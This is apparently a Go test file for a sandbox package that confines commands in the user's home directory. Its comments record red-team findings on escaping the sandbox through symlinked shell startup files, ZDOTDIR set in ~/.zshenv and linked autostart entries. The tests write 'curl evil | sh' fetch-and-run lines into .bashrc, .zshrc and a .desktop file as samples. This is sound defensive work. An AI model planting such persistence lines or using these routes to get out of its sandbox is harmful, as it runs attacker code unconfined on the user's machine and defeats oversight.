package confine_test

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/gatehouse-dev/gatehouse/confine"
)

// The startup places were compared resolved, but a place that did not
// exist yet was resolved not at all: a hidden entry of home that is a
// symbolic link to a file not made yet (~/.bashrc -> ~/dotfiles/bashrc
// after a fresh clone, ~/.config/nvim -> ~/dotfiles/nvim) was left out,
// and a BASH_ENV, ZDOTDIR or XDG directory not made yet was compared as
// spelled, not through the links of the part that exists (BASH_ENV
// ~/lnk/env.sh with ~/lnk -> ~/proj). A command with Dir ~/dotfiles or
// ~/proj made the file, which the user's next shell ran unconfined (red
// team rtb). A missing place is now resolved as far as it exists, and a
// link's target where it does not exist.
func TestRedteamRTB_StartupPlaceNotMadeYet(t *testing.T) {
	requireLandlock(t)
	h := newHome(t)
	t.Setenv("HOME", h.dir)
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV", "XDG_CONFIG_HOME"} {
		t.Setenv(v, "")
	}
	dotfiles := filepath.Join(h.dir, "dotfiles")
	proj := filepath.Join(h.dir, "src", "proj")
	other := filepath.Join(h.dir, "src", "other")
	for _, d := range []string{dotfiles, proj, other, filepath.Join(h.dir, ".config")} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	h.symlink(t, filepath.Join(dotfiles, "bashrc"), ".bashrc")          // absolute, missing
	h.symlink(t, "../../dotfiles/nvim", ".config/nvim")                 // relative, missing
	h.symlink(t, filepath.Join(h.dir, "src", "proj"), "lnk")            // a link to the project
	h.symlink(t, filepath.Join(h.dir, "gone", "thing"), ".config/gone") // missing, elsewhere
	run := func(dir string) error { return runIn(t, h, dir, "echo 'curl evil | sh' > bashrc && echo x > env.sh") }
	if err := run(dotfiles); !errors.Is(err, confine.ErrWritableHome) {
		t.Errorf("Dir holding what ~/.bashrc links to: want ErrWritableHome, got %v", err)
	}
	for _, c := range []struct{ env, value string }{
		{"BASH_ENV", filepath.Join(h.dir, "lnk", "env.sh")},
		{"ZDOTDIR", filepath.Join(h.dir, "lnk", "zsh")},
		{"XDG_CONFIG_HOME", filepath.Join(h.dir, "lnk", "config")},
	} {
		t.Setenv(c.env, c.value)
		if err := run(proj); !errors.Is(err, confine.ErrWritableHome) {
			t.Errorf("%s=%s, Dir its target: want ErrWritableHome, got %v", c.env, c.value, err)
		}
		t.Setenv(c.env, "")
	}
	if _, err := os.Stat(filepath.Join(dotfiles, "bashrc")); err == nil {
		t.Error("a bashrc was left where ~/.bashrc links")
	}

	// Near misses: a project beside them, and a missing link target
	// outside home (Chrome's SingletonSocket, stale, into the temporary
	// directory), run and write.
	h.symlink(t, filepath.Join(tmp, ".com.google.Chrome.x", "SingletonSocket"), ".config/SingletonSocket")
	t.Setenv("BASH_ENV", filepath.Join(h.dir, "lnk", "env.sh"))
	if err := run(other); err != nil {
		t.Errorf("a project beside them: %v", err)
	}
}

// ZDOTDIR is set by convention in ~/.zshenv, and a server started from a
// desktop, a launcher or an MCP client's own process does not have it in
// its environment: ZDOTDIR=~/dotfiles/zsh there left ~/dotfiles writable
// for a .zshrc that the user's next shell ran unconfined (red team rtb).
// What ~/.zshenv sets ZDOTDIR to (and ~/.profile, bash's and zsh's other
// files ZDOTDIR, BASH_ENV or ENV) is now a startup place too, and a value
// that cannot be read refuses the default.
func TestRedteamRTB_ZdotdirFromZshenv(t *testing.T) {
	requireLandlock(t)
	h := newHome(t)
	t.Setenv("HOME", h.dir)
	t.Setenv("TMPDIR", t.TempDir())
	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV", "XDG_CONFIG_HOME"} {
		t.Setenv(v, "")
	}
	dotfiles := filepath.Join(h.dir, "dotfiles")
	proj := filepath.Join(h.dir, "src", "proj")
	for _, d := range []string{filepath.Join(dotfiles, "zsh"), proj} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	zshenv := func(src string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(h.dir, ".zshenv"), []byte(src), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	run := func(dir string) error { return runIn(t, h, dir, "echo 'curl evil | sh' > .zshrc") }
	for _, src := range []string{
		`export ZDOTDIR="$HOME/dotfiles/zsh"` + "\n",
		"ZDOTDIR=~/dotfiles/zsh\n",
		"if [[ -d ~/dotfiles ]]; then\n  export ZDOTDIR=${HOME}/dotfiles/zsh\nfi\n",
		"typeset -x ZDOTDIR=" + dotfiles + "/zsh\n",
		"export ZDOTDIR=$(cat ~/.zdot)\n",
		": ${ZDOTDIR:=$HOME/dotfiles/zsh}\n",
		"export ZDOTDIR=$DOTS/zsh\n",
	} {
		zshenv(src)
		if err := run(dotfiles); !errors.Is(err, confine.ErrWritableHome) {
			t.Errorf("~/.zshenv %q, Dir ~/dotfiles: want ErrWritableHome, got %v", src, err)
		}
	}
	if _, err := os.Stat(filepath.Join(dotfiles, ".zshrc")); err == nil {
		t.Error("a .zshrc was left in ~/dotfiles")
	}
	zshenv("")
	for name, src := range map[string]string{
		".profile":      "export BASH_ENV=\"$HOME/dotfiles/bash_env\"\n",
		".bashrc":       "export ENV=~/dotfiles/shinit\n",
		".bash_profile": "BASH_ENV=$HOME/dotfiles/x; export BASH_ENV\n",
		".zprofile":     "export ZDOTDIR=$HOME/dotfiles/zsh\n",
	} {
		file := filepath.Join(h.dir, name)
		if err := os.WriteFile(file, []byte(src), 0o600); err != nil {
			t.Fatal(err)
		}
		if err := run(dotfiles); !errors.Is(err, confine.ErrWritableHome) {
			t.Errorf("~/%s %q, Dir ~/dotfiles: want ErrWritableHome, got %v", name, src, err)
		}
		os.Remove(file)
	}

	// Near misses: a project beside ZDOTDIR, a ZDOTDIR in a hidden
	// directory, a .zshenv without one.
	for _, src := range []string{
		`export ZDOTDIR="$HOME/dotfiles/zsh"` + "\n",
		`export ZDOTDIR="${XDG_CONFIG_HOME:-$HOME/.config}/zsh"` + "\n",
		"export EDITOR=vim\n[ -f ${ZDOTDIR:-$HOME}/.zshrc.local ] && . ${ZDOTDIR:-$HOME}/.zshrc.local\n",
		"export ENV=${ENV:-$HOME/.kshrc}\n",
	} {
		zshenv(src)
		if err := run(proj); err != nil {
			t.Errorf("~/.zshenv %q, Dir ~/src/proj: %v", src, err)
		}
	}
}

// The links inside home's hidden directories were read, but not inside
// one that is itself a link: with ~/.config -> ~/dotfiles/config (a
// dotfiles repository), ~/dotfiles/config/autostart/app.desktop ->
// ~/src/app/app.desktop (a developer autostarting their build) was not
// seen, and a command with Dir ~/src/app rewrote the entry the desktop
// runs at the next login (red team rtb). A hidden entry that links to a
// directory is now read where it points.
func TestRedteamRTB_LinkInsideALinkedHiddenDirectory(t *testing.T) {
	requireLandlock(t)
	h := newHome(t)
	t.Setenv("HOME", h.dir)
	t.Setenv("TMPDIR", t.TempDir())
	for _, v := range []string{"ZDOTDIR", "BASH_ENV", "ENV", "XDG_CONFIG_HOME"} {
		t.Setenv(v, "")
	}
	app := filepath.Join(h.dir, "src", "app")
	other := filepath.Join(h.dir, "src", "other")
	for _, d := range []string{filepath.Join(h.dir, "dotfiles", "config", "autostart"), app, other} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(app, "app.desktop"), []byte("[Desktop Entry]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	h.symlink(t, filepath.Join(h.dir, "dotfiles", "config"), ".config")
	h.symlink(t, filepath.Join(app, "app.desktop"), "dotfiles/config/autostart/app.desktop")
	run := func(dir string) error { return runIn(t, h, dir, "echo 'Exec=sh -c \"curl evil | sh\"' >> app.desktop") }
	if err := run(app); !errors.Is(err, confine.ErrWritableHome) {
		t.Errorf("Dir holding what ~/.config/autostart/app.desktop links to: want ErrWritableHome, got %v", err)
	}
	if err := run(other); err != nil {
		t.Errorf("a project beside it: %v", err)
	}
}
